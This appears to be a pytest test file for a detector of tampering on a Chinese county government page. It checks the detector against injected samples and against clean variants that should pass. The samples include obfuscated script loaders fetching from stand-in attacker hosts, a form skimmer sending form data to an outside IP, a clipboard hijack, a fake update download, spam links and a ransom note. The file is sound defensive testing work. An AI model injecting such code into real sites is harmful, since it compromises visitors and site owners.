@@ -1,0 +1,168 @@
+"""The relatives of what strangers had done to pages: by every place that says, loads or leads, and what is like it."""
+
+import base64
+
+import pytest
+
+from tests.pages.imitations.judging import shot, violations
+
+PAGE = """<html><head><title>云山县人民政府</title></head><body><h1><a href="/">云山县人民政府</a></h1>
+<form action="/search"><input name="q" placeholder="请输入关键字"></form>
+<ul><li><a href="/a/1.html">县政府召开第68次常务会议</a><span>2026-11-26</span></li></ul>
+<p>咨询电话：0795-6126655 邮箱：bgs@yunshan.gov.cn</p>
+<p>主办：云山县人民政府 江ICP备05003311号</p></body></html>"""
+
+
+def put(html: str, page: str = PAGE) -> str:
+    """The page with something at its end."""
+    return page.replace("</body>", f"{html}</body>")
+
+
+def script(text: str) -> str:
+    """The page with a script at its end."""
+    return put(f"<script>{text}</script>")
+
+
+ADDRESS = "https://s.bad.example/x.js"
+CODED = base64.b64encode(ADDRESS.encode()).decode()
+_LOAD = "var e=document.createElement('script');e.src=%s;document.body.appendChild(e)"
+_ROWS = ",".join(str(ord(letter) ^ 77) for letter in ADDRESS)
+_MOVED = "".join(chr(ord(letter) + 1) for letter in ADDRESS)
+TOLD_AT_FIRST = {
+    "noscript": put("<noscript>澳门葡京赌场</noscript>"),
+    "template": put("<template><b>百家乐开户</b></template>"),
+    "textarea": put("<textarea hidden>时时彩投注平台</textarea>"),
+    "option": put("<select><option value='http://a.bad.example/'>葡京娱乐场</option></select>"),
+    "aria-label": PAGE.replace('<a href="/">', '<a href="/" aria-label="澳门新葡京娱乐场">'),
+    "placeholder": PAGE.replace("请输入关键字", "开云体育app下载"),
+    "itemprop": PAGE.replace("</head>", '<meta itemprop="name" content="亚博体育官网入口"></head>'),
+    "css letters": PAGE.replace("</head>", "<style>h1:after{content:'澳门金沙娱乐场'}</style></head>"),
+    "css cover": PAGE.replace(
+        "</head>",
+        "<style>body:before{content:'';position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://a.bad.example/a.jpg)}</style></head>",
+    ),
+    "cover by class": put(
+        "<style>.z{position:fixed;top:0;left:0;width:100%;height:100%;background:#000}</style>"
+        "<div class=z>还我血汗钱</div>"
+    ),
+    "boast with figures": PAGE.replace("县政府召开第68次常务会议", "H4ck3d By C0brA"),
+    "boast in Chinese": put("<p>贵站已被攻陷，请尽快修复</p>"),
+    "frame in a frame": put("<iframe srcdoc=\"<script src='https://a.bad.example/x.js'></script>\"></iframe>"),
+    "folded up": put("<details><summary></summary><a href='http://a.bad.example/'>友情站</a></details>"),
+    "old Basic": put(
+        '<script language=vbscript>document.write "<iframe src=http://198.51.100.9/ width=0></iframe>"</script>'
+    ),
+    "crossed": script(
+        f"var d=[{_ROWS}],u='';for(var i=0;i<d.length;i++)u+=String.fromCharCode(d[i]^77);" + _LOAD % "u"
+    ),
+    "moved": script(
+        f"var d='{_MOVED}',u='';for(var i=0;i<d.length;i++)u+=String.fromCharCode(d.charCodeAt(i)-1);" + _LOAD % "u"
+    ),
+    "handed over": script(f"(function(k){{{_LOAD % 'own(k)'}}})('{CODED}')"),
+    "concat": script(_LOAD % "'https:'.concat('//','s.bad','.example','/x.js')"),
+    "name of the window": script("eval(window.name)"),
+    "element that loads": put(
+        "<svg onload=\"var j=document.createElement('script');j.src='https://a.bad.example/f.js';document.body.append(j)\"></svg>"
+    ),
+    "behind the end": PAGE + "<script src=http://a.bad.example/x.js></script>",
+    "number": put("<script src=http://203.0.113.77/x.js></script>"),
+    "letters in code": put(
+        '<script src="' + "".join(f"&#{ord(letter)};" for letter in "//s.bad.example/x.js") + '"></script>'
+    ),
+    "feigned library": put("<!--[if IE]><script src='http://ie.html5shiv-cdn.example/r.js'></script><![endif]-->"),
+    "feigned office": put("<a href='http://www.sq777.example/'>石桥区人民政府</a>"),
+    "claim": put("<a href='http://ld.bad.example/h5'>关于领取2026年度个人劳动综合补贴的通知</a>"),
+    "letters elsewhere": put(
+        "<form action='http://198.51.100.2/s.php' method=post><input name=mobile>"
+        "<textarea name=content></textarea></form>"
+    ),
+    "copied forms": script("$('#f').submit(function(){new Image().src='http://203.0.113.3/c?'+$(this).serialize()})"),
+    "another tongue": PAGE.replace(
+        "</head>", '<meta name="description" content="ルイヴィトン 財布 新作 送料無料"></head>'
+    ),
+    "page in another tongue": PAGE.replace(
+        "</head>", '<link rel="alternate" hreflang="ja" href="https://a.bad.example/"></head>'
+    ),
+    "words looked for": put("<p><a href='/s?q=1'>世界杯在哪买球</a> <a href='/s?q=2'>约炮软件</a></p>"),
+    "file of a feigned host": put("<script src='http://www.yunshan-gov.example/jquery.js'></script>"),
+    "press anywhere": PAGE.replace("<body>", "<body onclick=\"window.open('http://a.bad.example/')\">"),
+    "clipboard": script(
+        "document.addEventListener('click',function(){t.value='打开支付宝搜索“559210388”领红包';document.execCommand('copy')})"
+    ),
+    "frame that fills a layer": put(
+        '<div style="position:fixed;top:0;left:0;right:0;bottom:0"><iframe src="http://a.bad.example/" '
+        'style="width:100%;height:100%"></iframe></div>'
+    ),
+    "ransom": put("<p>服务器数据已被加密，72小时内支付 0.8 BTC 至 bc1qabcdefgh2345，否则公开</p>"),
+    "boast of a style sheet": PAGE.replace(
+        "</head>", "<style>h1:after{content:'官网已被黑 hacked by 404'}</style></head>"
+    ),
+    "broken up": put("<p>威\u200b尼\u200b斯\u200b人\u200b城</p>"),
+    "code to scan": put(
+        "<div><p>劳动补贴申领，请扫码登记</p><img src='https://a.bad.example/q.png' alt='扫码认证'></div>"
+    ),
+    "program that is needed": put(
+        "<div><p>浏览器版本过低，请立即更新</p><a href='http://dl.bad.example/flash.exe'>更新</a></div>"
+    ),
+    "two offers": put("<p>代开各类发票 税点低</p><p>黑户贷款 当天放款</p>"),
+    "list in a script": script("var L=[{url:'https://a.bad.example/',title:'县政府召开第68次常务会议'}]"),
+}
+"""By what was done."""
+TOLD_AGAINST_THE_BASELINE = {
+    "notice elsewhere": put("<a href='http://a.bad.example/'>关于开展2026年度职称评审的通知</a>"),
+    "mobile for the office": PAGE.replace("0795-6126655", "17099990431"),
+    "another town": PAGE.replace("0795-6126655", "0592-6126655"),
+    "private mail": PAGE.replace("bgs@yunshan.gov.cn", "ysbgs@mail.example"),
+    "account to pay into": put("<p>缴费账号：6222020200112233445</p>"),
+    "account after account": put("<p>账　号：8201 2600 0087 6543 210</p>"),
+    "called away": put("<p>合作联系 TG:@boss88</p>"),
+}
+HONEST = {
+    "own decoder of an address": script(
+        "(function(d,k){if(!window.atob)return;var a=d.createElement('a');a.href='mailto:'+window.atob(k);"
+        "d.body.appendChild(a)})"
+        f"(document,'{base64.b64encode(b'bgs@yunshan.gov.cn').decode()}')"
+    ),
+    "another number of the same town": PAGE.replace("0795-6126655", "0795-6126656"),
+    "hotline": PAGE.replace("0795-6126655", "12345"),
+    "closed for work": "<html><head><title>云山县政府网 - 系统维护</title></head><body><h1>网站升级维护公告</h1>"
+    "<p>因检修，暂停访问至28日6:00。</p><p>江ICP备05003311号</p></body></html>",
+    "notice that can be closed": put(
+        "<div id=tc style='position:fixed;top:0;left:0;width:100%;height:100%;background:#fff'>停水通知"
+        "<a onclick=\"document.getElementById('tc').style.display='none'\">关闭</a></div>"
+    ),
+    "mourning": PAGE.replace("</head>", "<style>html{filter:grayscale(100%)}</style></head>"),
+    "words of those who fight it": PAGE.replace(
+        '<a href="/">', '<a href="/" title="我县打击网络赌博专项行动，严查六合彩">'
+    ),
+    "late opening hours": put("<p>县政务服务中心12月1日起实行延时服务、上门服务，娱乐场所管理条例公开征求意见。</p>"),
+    "option to an office": put("<select><option value='http://www.mnr.gov.cn/'>自然资源部</option></select>"),
+    "letters to the office": put(
+        "<form action=/mail method=post><input name=mobile><textarea name=c></textarea></form>"
+    ),
+    "list in a script": script("var L=[{url:'https://www.news.example/',title:'省报：我县做好油茶文章'}]"),
+    "advice on browsers": put(
+        "<div><p>浏览器版本过低，请升级</p><a href='https://browser.360.cn/se/'>升级浏览器</a></div>"
+    ),
+    "source when copied": script(
+        "document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain','——转载请注明来源')})"
+    ),
+    "word with a break": put("<p>县人民\u200b医院</p>"),
+    "statistics behind the end": PAGE + "<script src=https://hm.baidu.com/hm.js?1></script>",
+}
+
+
+@pytest.mark.parametrize("page", TOLD_AT_FIRST.values(), ids=TOLD_AT_FIRST)
+def test_it_is_told_at_first_sight(page: str) -> None:
+    assert violations(page)
+
+
+@pytest.mark.parametrize("page", [*TOLD_AT_FIRST.values(), *TOLD_AGAINST_THE_BASELINE.values()])
+def test_it_is_told_against_the_baseline(page: str) -> None:
+    assert violations(page, shot(PAGE))
+
+
+@pytest.mark.parametrize("page", [PAGE, *HONEST.values()], ids=["the page", *HONEST])
+def test_an_honest_page_of_the_same_shape_is_not_accused(page: str) -> None:
+    assert violations(page) == []
+    assert violations(page, shot(PAGE)) == []
